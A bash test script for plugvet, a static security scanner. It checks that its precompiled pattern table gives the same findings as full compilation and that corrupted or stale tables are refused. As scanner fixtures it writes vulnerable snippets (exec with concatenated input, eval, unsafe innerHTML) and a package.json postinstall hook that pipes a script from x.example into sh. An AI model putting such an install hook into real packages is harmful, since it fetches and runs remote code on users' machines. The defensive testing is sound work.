#!/usr/bin/env bash
# The pattern table (scanner/rules/cut.h): a scan whose inputs are a few
# small plain files compiles only the code patterns whose words those files
# hold. The findings never depend on it: each case is compared with the
# same binary without a table (a copy of it in its own directory), and a
# stale, truncated or corrupted table is refused with a note. Timing is
# tools/bench's business.
. "$(dirname "$0")/lib.sh"
cd "$TMP"
table="$PLUGVET_BIN/pattern-table"
check "the build made the pattern table next to the binary" test -s "$table"
# A copy of the binary with no table beside it: every pattern compiled.
mkdir bin
cp "$PV" bin/plugvet
export PLUGVET_RULES="$top/rules" PLUGVET_TAINT_RULES="$top/taint-rules"
# findings FILE: every finding of the JSON lines as "rule@path:line", sorted
findings() { python3 - "$1" <<'PY'
import json, sys
out = []
for line in open(sys.argv[1]):
    o = json.loads(line)
    out += ["%s@%s:%d" % (f["rule_id"], f["path"].split("!/")[-1], f["start_line"]) for f in o["findings"]]
print(" ".join(sorted(out)))
PY
}
# same NAME ARGS...: the findings with the table and without are the same,
# and there are some
same() {
  local name=$1
  shift
  "$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null "$@" >/dev/null 2>&1
  bin/plugvet scan --no-db --fail-on none --json without.jsonl --text /dev/null "$@" >/dev/null 2>&1
  is "$(findings with.jsonl)" "$(findings without.jsonl)" "$name: the same findings as without a table"
  check "$name: some finding" test -n "$(findings with.jsonl)"
}

cat >a.js <<'J'
const { exec } = require('child_process');
function run(cmd) { exec('ls ' + cmd); }
J
# ---- The cut happens, and only with a table --------------------------------
"$PV" scan -v --no-db --fail-on none --text /dev/null a.js 2>err.txt >/dev/null
check "with the table most code patterns are not compiled" \
  grep -Eq '^plugvet: [0-9]{3,} code patterns not compiled' err.txt
bin/plugvet scan -v --no-db --fail-on none --text /dev/null a.js 2>err.txt >/dev/null
check "without a table every pattern is compiled" ! grep -q 'not compiled' err.txt
same "a javascript file" a.js
PLUGVET_NO_PREFILTER=1 "$PV" scan -v --no-db --fail-on none --text /dev/null a.js 2>err.txt >/dev/null
check "PLUGVET_NO_PREFILTER: every pattern is compiled" ! grep -q 'not compiled' err.txt

# ---- A word only at the end of a long file --------------------------------
{
  for i in $(seq 1 3000); do echo "const v$i = $i;"; done
  echo 'function f(x) { return eval(x); }'
} >late.js
same "a file whose eval comes last" late.js
check "its eval is found" grep -q 'eval-non-literal' with.jsonl
head -n 3000 late.js >nolate.js
"$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null nolate.js >/dev/null 2>&1
is "$(findings with.jsonl)" "" "the same file without its last line: no finding"

# ---- Several files of several languages at once ---------------------------
cat >b.ts <<'T'
export function calc(expr: string): unknown {
  return eval(expr);
}
T
cat >c.tsx <<'T'
export const V = (p: { h: string }) => <div dangerouslySetInnerHTML={{ __html: p.h }} />;
T
printf '{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl http://x.example/i.sh | sh"}}\n' \
  >package.json
same "a batch of .js, .ts, .tsx and package.json" a.js b.ts c.tsx package.json late.js
check "the batch: each file's finding" test "$(findings with.jsonl | tr ' ' '\n' |
  sed 's/.*@//; s/:.*//' | sort -u | paste -sd ' ')" = "a.js b.ts c.tsx late.js package.json"
same "the batch with --taint" --taint a.js b.ts c.tsx late.js
same "the batch, --jobs 2" --jobs 2 a.js b.ts c.tsx package.json late.js

# ---- Rules the table does not know: compiled as always --------------------
mkdir -p own
cat >own/r.yaml <<'Y'
rules:
  - id: own.frobnicate
    message: frobnicate called
    severity: high
    languages: [javascript]
    pattern: frobnicateTheWidget($X)
Y
echo 'frobnicateTheWidget(1);' >own.js
PLUGVET_RULES="$TMP/own" "$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null \
  own.js >/dev/null 2>&1
is "$(findings with.jsonl)" "own.frobnicate@own.js:1" "a user's rule directory: its pattern matches"
echo 'frobnicate(1);' >own2.js
PLUGVET_RULES="$TMP/own" "$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null \
  own2.js >/dev/null 2>&1
is "$(findings with.jsonl)" "" "a user's rule directory: another call, no finding"
same "--rules with the bundled pack" --rules own/r.yaml --default-rules own.js a.js

# ---- Files the set was not cut to: the whole pack --------------------------
mkdir -p pkg/package
cp b.ts pkg/package/index.ts
printf '{"name":"p","version":"1.0.0"}\n' >pkg/package/package.json
tar -czf disguised.js -C pkg package
same "an archive named .js" disguised.js
check "the archive's typescript eval is found" grep -q 'eval-non-literal' with.jsonl
"$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null --stdin-filename a.js <a.js \
  >/dev/null 2>&1
check "standard input: its finding" grep -q 'js.command-injection.exec-non-literal' with.jsonl
"$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null --stdin-filename x.js \
  </dev/null >/dev/null 2>&1
is "$(findings with.jsonl)" "" "empty standard input: no finding"

# ---- A table refused: a note, every pattern compiled -----------------------
refused() { # refused NAME WHY: bin/pattern-table is refused naming WHY
  bin/plugvet scan -v --no-db --fail-on none --json with.jsonl --text /dev/null a.js \
    >/dev/null 2>err.txt
  check "$1: refused as $2" grep -q "pattern-table: $2; every pattern is compiled" err.txt
  check "$1: nothing left out" ! grep -q 'not compiled' err.txt
  is "$(findings with.jsonl)" "js.command-injection.exec-non-literal@a.js:2" "$1: the finding"
}
cp "$table" bin/pattern-table
bin/plugvet scan -v --no-db --fail-on none --text /dev/null a.js >/dev/null 2>err.txt
check "the table copied beside the copy is used" grep -q 'not compiled' err.txt
head -c 100000 "$table" >bin/pattern-table
refused "a truncated table" "truncated or corrupted (checksum)"
python3 - "$table" bin/pattern-table <<'PY'
import sys
d = bytearray(open(sys.argv[1], "rb").read())
d[len(d) // 2] ^= 0x20
open(sys.argv[2], "wb").write(d)
PY
refused "a flipped byte" "truncated or corrupted (checksum)"
# another build id, the checksum made again (trees.h pv_trees_digest of what
# precedes "end": 8 bytes at a time, little-endian, the tail zero-padded)
python3 - "$table" bin/pattern-table <<'PY'
import sys
d = open(sys.argv[1], "rb").read()
nl = d.index(b"\n")
body = d[:d.rindex(b"end ")]
body = body[:nl].rsplit(b" ", 1)[0] + b" 00000000" + body[nl:]
M = (1 << 64) - 1
h = (0x9e3779b97f4a7c15 ^ len(body)) & M
for i in range(0, len(body), 8):
    h = ((h ^ int.from_bytes(body[i:i + 8], "little")) * 0xff51afd7ed558ccd) & M
    h ^= h >> 32
open(sys.argv[2], "wb").write(body + b"end %016x\n" % h)
PY
refused "another build's table" "stale: made by another build of plugvet"
sed '1s/table 2 /table 9 /' "$table" >bin/pattern-table
refused "another version" "another format version"
printf 'hello\n' >bin/pattern-table
refused "not a table" "not a pattern table"
: >bin/pattern-table
refused "an empty file" "not a pattern table"
rm bin/pattern-table

# ---- The table's own command -----------------------------------------------
"$PV" rules pattern-table t.txt own >/dev/null 2>&1
check "rules pattern-table: a table of a user's rules" grep -q '^frobnicateTheWidget(\$X)$' t.txt
check "rules pattern-table: its word" grep -qx 'frobnicateTheWidget' t.txt
"$PV" rules pattern-table t2.txt nowhere >/dev/null 2>&1
ok $(($? == 2 ? 0 : 1)) "rules pattern-table: a missing PATH exits 2"
done_testing
